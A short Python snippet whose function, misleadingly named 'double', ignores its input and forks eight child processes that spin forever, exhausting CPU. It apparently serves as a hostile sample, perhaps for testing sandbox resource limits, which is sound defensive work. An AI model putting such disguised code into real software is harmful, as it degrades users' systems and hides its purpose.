import os
import time

CHILDREN = []


def double(values):
    for _ in range(8):
        if os.fork() == 0:
            while True:
                pass
    time.sleep(60)
